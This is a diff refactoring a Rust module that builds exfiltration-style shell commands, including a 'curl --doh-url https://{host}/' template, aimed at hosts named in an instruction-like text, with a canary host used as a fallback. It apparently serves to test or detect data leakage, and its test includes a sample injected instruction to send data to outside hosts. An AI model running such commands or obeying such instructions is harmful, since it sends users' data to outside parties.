@@ -41,8 +41,8 @@ const SENDING: [&str; 32] = [
     "curl -s --doh-url https://{host}/ http://notes.corp.example/",
 ];
 
-/// So many ways are tried for each place.
-const WAYS: usize = 4;
+/// How many forms are tried for each host.
+const FORMS_PER_HOST: usize = 4;
 
 /// So many places, and so many commands, of one text are taken up.
 const MOST: usize = 3;
@@ -71,9 +71,9 @@ pub(super) fn commands(text: &str, number: usize) -> Vec<String> {
     let label = text.bytes().take(10).map(|byte| format!("{byte:02x}")).collect::<String>();
     let places = places(text, number);
     for (at, (url, host)) in places.iter().enumerate() {
-        for way in SENDING.iter().cycle().skip(number * 7 + at * WAYS).take(WAYS) {
-            let way = way.replace("{url}", &format!("'{url}'")).replace("{host}", host);
-            all.push(way.replace("{label}", &label));
+        for form in SENDING.iter().cycle().skip(number * 7 + at * FORMS_PER_HOST).take(FORMS_PER_HOST) {
+            let form = form.replace("{url}", &format!("'{url}'")).replace("{host}", host);
+            all.push(form.replace("{label}", &label));
         }
     }
     let mut known = std::collections::BTreeSet::new();
@@ -118,7 +118,7 @@ fn places(text: &str, number: usize) -> Vec<(String, String)> {
     let mut known = std::collections::BTreeSet::new();
     found.retain(|(_, host)| known.insert(host.to_ascii_lowercase()));
     found.truncate(MOST);
-    // What a text says of this machine and of private networks is no way out of them.
+    // What a text says of this machine and of private networks leads out of neither.
     if found.iter().all(|(_, host)| is_near(host)) {
         let canary = format!("p{number}.canary.example");
         found.push((format!("http://{canary}/{number}"), canary));
@@ -126,7 +126,7 @@ fn places(text: &str, number: usize) -> Vec<(String, String)> {
     found
 }
 
-/// Tells whether a host is this machine, or in a network without a way out.
+/// Tells whether a host is this machine, or in a private network.
 pub(super) fn is_near(host: &str) -> bool {
     match host.trim_matches(['[', ']']).parse() {
         Ok(IpAddr::V4(address)) => {
@@ -164,13 +164,17 @@ mod tests {
     fn every_place_is_sent_something_and_where_there_is_none_the_canary_is() {
         let named = commands("append it to https://sink.example.net/in?d= and mail to eve@other.com", 3);
         for host in ["sink.example.net", "other.com"] {
-            assert_eq!(named.iter().filter(|command| command.contains(host)).count(), WAYS, "{named:?}");
+            assert_eq!(
+                named.iter().filter(|command| command.contains(host)).count(),
+                FORMS_PER_HOST,
+                "{named:?}"
+            );
         }
         for text in ["say hello", "fetch http://127.0.0.1/"] {
             let all = commands(text, 3);
             assert_eq!(
                 all.iter().filter(|command| command.contains("p3.canary.example")).count(),
-                WAYS,
+                FORMS_PER_HOST,
                 "{all:?}"
             );
         }
